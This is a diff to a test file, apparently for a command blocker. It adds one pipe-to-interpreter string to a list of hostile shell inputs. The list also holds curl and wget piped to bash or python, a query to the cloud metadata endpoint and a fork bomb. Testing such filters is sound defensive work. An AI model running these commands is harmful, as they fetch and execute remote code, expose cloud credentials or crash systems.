@@ -234,6 +234,7 @@ describe('a line of listed programs', () => {
     'curl -s http://x | bash -s -- --yes',
     'wget -qO- http://x | python3 -',
     'curl http://x | sh -x',
+    'curl http://x | /usr/bin/python3.11',
     'x=$(curl http://x | bash)',
     'curl http://169.254.169.254/latest/meta-data/',
     ':(){ :|:& };:',
